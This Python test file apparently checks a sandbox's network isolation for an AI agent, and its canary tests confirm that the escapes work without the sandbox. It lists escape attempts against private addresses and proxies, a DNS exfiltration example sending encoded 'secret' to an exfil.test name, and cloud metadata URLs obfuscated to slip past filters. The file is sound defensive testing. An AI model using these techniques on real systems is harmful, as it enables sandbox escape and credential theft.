"""Attackers on the network: no way out but the data plane."""

import os
import socket
import threading

import pytest

from lib import process, sites
from lib.names import NameServer
from lib.namespace import Network

PUBLIC = "93.184.215.14"


@pytest.fixture
def outside(worlds, tmp_path):
    """A world in its own network with a listener that counts whoever comes."""
    network = Network(str(tmp_path), [f"{PUBLIC}/32", "10.9.8.7/32", "fd00:9::7/128", "192.0.2.55/32"])
    made = worlds(network=network)
    made.names = NameServer(network)
    made.servers.append(made.names)
    made.caught = []
    for port in (80, 443, 22, 25, 8000, 8080):
        for address in ("0.0.0.0",):
            trap = _Trap(network.listen(address, port), made.caught)
            made.servers.append(trap)
    with network.entered():
        for port in (53_000, 123, 443):
            trap = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            trap.bind(("0.0.0.0", port))
            made.servers.append(_Datagrams(trap, made.caught))
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind("\0al-host-service")
        abstract.listen(8)
        made.servers.append(_Trap(abstract, made.caught))
    return made


class _Trap(sites.RawSite):
    """Notes each connection."""

    def __init__(self, listener, caught):
        self.caught = caught
        listener_port = getattr(listener, "getsockname")
        if listener.family == socket.AF_UNIX:
            self.listener = listener
            threading.Thread(target=self._plain, daemon=True).start()
        else:
            assert listener_port()
            super().__init__(self._note, listener=listener)

    def _plain(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self._note(connection)

    def _note(self, connection):
        self.caught.append(str(self.listener.getsockname()))
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nBREACH")

    def close(self):
        if self.listener.family == socket.AF_UNIX:
            self.listener.close()
        else:
            super().close()


class _Datagrams:
    """Notes each datagram."""

    def __init__(self, opened, caught):
        self.opened = opened
        threading.Thread(target=self._read, args=(caught,), daemon=True).start()

    def _read(self, caught):
        while True:
            try:
                caught.append(("udp", self.opened.recvfrom(2000)[0]))
            except OSError:
                return

    def close(self):
        """Stops noting."""
        self.opened.close()


ATTACKS = ["tcp 10.9.8.7 80", "tcp 10.9.8.7 22", "tcp 127.0.0.1 8000", "tcp6 fd00:9::7 80",
           "tcp6 ::ffff:10.9.8.7 8080", f"tcp {PUBLIC} 25", f"tcp {PUBLIC} 443", "udp 10.9.8.7 53000",
           f"udp {PUBLIC} 123", f"udp {PUBLIC} 443", "raw 10.9.8.7 0", "unix al-host-service 0",
           "bind-device 10.9.8.7 80", "source-route 10.9.8.7 80", "connect-proxy 10.9.8.7 80",
           "connect-proxy 10.9.8.7 22", "absolute-proxy 10.9.8.7 80", "absolute-proxy [fd00:9::7] 80",
           "absolute-proxy 127.0.0.1 8000", "broadcast 255.255.255.255 53000", "sctp 10.9.8.7 80",
           "mptcp 10.9.8.7 80", "fastopen 10.9.8.7 80"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_packet_reaches_a_private_address(outside, attack):
    """The agent reaches an address of the host's network."""
    program = outside.program("attack_network.py")
    result = outside.launch("/usr/bin/python3", program, *attack.split(), timeout=90,
                            flags=["--profile", "open"] if PUBLIC not in attack else [])
    assert "BREACH" not in result.out and outside.caught == [], (result.describe(), outside.caught)


# No twin: kernels come without SCTP, and drop packets with a source route unless told otherwise.
_TWINLESS = ("sctp", "source-route")
_BY_PROXY = [attack for attack in ATTACKS if "-proxy" in attack]


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack not in _BY_PROXY
                                    and not attack.startswith(_TWINLESS)])
def test_canary_the_same_attack_reaches_it_outside(outside, attack):
    """The attacker cannot see success: nothing arrives even without a sandbox."""
    if "tcp6" in attack:
        with outside.network.entered():
            trap = sites.listen("fd00:9::7", 80)
        outside.servers.append(_Trap(trap, outside.caught))
    program = outside.program("attack_network.py")
    result = outside.run("/usr/bin/python3", program, *attack.split())
    process.eventually(lambda: outside.caught or "BREACH" in result.out,
                       f"something arrives: {result.describe()}", 15)


@pytest.mark.parametrize("attack", _BY_PROXY)
def test_canary_the_same_attack_reaches_it_when_a_rule_names_the_address(outside, attack):
    """The attacker cannot see success: nothing arrives even in a sandbox that is open there."""
    _, address, port = attack.split()
    if "fd00" in address:
        with outside.network.entered():
            trap = sites.listen("fd00:9::7", 80)
        outside.servers.append(_Trap(trap, outside.caught))
    program = outside.program("attack_network.py")
    result = outside.launch("/usr/bin/python3", program, *attack.split(),
                            flags=["--allow", f"{address}:{port}"])
    assert "BREACH" in result.out and outside.caught, result.describe()


def test_no_data_leaves_in_dns_names(outside):
    """A name that carries data reaches a name server."""
    outside.names.answers["seen.exfil.test"] = [PUBLIC]
    program = outside.program("attack_network.py")
    for profile in ("guarded", "locked"):
        outside.launch("/usr/bin/python3", program, "dns", "c2VjcmV0.exfil.test", "0",
                       flags=["--profile", profile], timeout=90)
    assert not [name for name in outside.names.asked if "exfil" in name], outside.names.asked
    outside.run("getent", "ahosts", "c2VjcmV0.exfil.test")
    assert outside.names.asked["c2vjcmv0.exfil.test"] > 0, "the canary's question was not seen"


def test_names_alone_leave_nothing_even_when_everything_is_allowed(outside):
    """A mere DNS question (no connection) of an allowed name leaves the machine."""
    program = outside.program("attack_network.py")
    outside.launch("/usr/bin/python3", program, "dns", "c2VjcmV0.exfil.test", "0",
                   flags=["--profile", "open"], timeout=90)
    assert outside.names.asked == {}


def test_metadata_services_are_out_of_reach(outside):
    """A cloud's metadata address or name is reached."""
    outside.run("ip", "address", "add", "169.254.169.254/32", "dev", "lo").ok()
    for name in ("metadata.google.internal", "metadata", "instance-data"):
        outside.names.answers[name] = ["169.254.169.254"]
    for url in ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/",
                "http://[fd00:ec2::254]/", "http://2852039166/", "http://0xa9fea9fe/",
                "http://169.254.169.254.nip.test/", "http://[::ffff:a9fe:a9fe]/"):
        outside.names.answers["169.254.169.254.nip.test"] = ["169.254.169.254"]
        result = outside.launch("curl", "-sS", "--globoff", "--max-time", "20", url,
                                flags=["--profile", "open"], timeout=60)
        assert "BREACH" not in result.out, result.describe()
    assert outside.caught == []


def test_the_hosts_loopback_is_not_the_sandboxs(world):
    """A service on the host's 127.0.0.1 or ::1 is reached."""
    hits = []
    site = sites.RawSite(lambda connection: hits.append(1))
    world.servers.append(site)
    for how in ([], ["--noproxy", "*"]):
        world.launch("curl", "-sS", "--max-time", "20", *how, f"http://127.0.0.1:{site.port}/", timeout=60)
        world.launch("curl", "-sS", "--max-time", "20", *how, f"http://localhost:{site.port}/",
                     flags=["--profile", "open"], timeout=60)
    assert hits == []
    process.run(["curl", "-sS", "--max-time", "5", f"http://127.0.0.1:{site.port}/"])
    assert hits, "the canary did not reach it"


def test_one_session_cannot_use_the_proxy_of_another(world):
    """A session reaches what only another one is allowed."""
    world.site("mine.test", allow=False)
    first = world.launch_start("sh", "-c", "echo up; sleep 1000", flags=["--allow", "mine.test"])
    assert first.stdout.readline() == b"up\n"
    result = world.launch("curl", "-sS", "https://mine.test/")
    assert "hello" not in result.out
    first.terminate()
    first.wait(process.PATIENCE)


def test_interfaces_routes_and_addresses_cannot_be_changed(any_world):
    """The agent changes its network."""
    script = ("ip link set lo down 2>/dev/null && echo BREACH; ip link add d type dummy 2>/dev/null && "
              "echo BREACH; ip addr add 10.9.9.9/32 dev lo 2>/dev/null && echo BREACH; ip route del local "
              "0.0.0.0/0 dev lo table local 2>/dev/null && echo BREACH; echo done; ls /sys/class/net")
    result = any_world.shell(script).ok()
    assert result.out.split() == ["done", "lo"], result.describe()
    assert os.path.exists("/usr/sbin/ip")
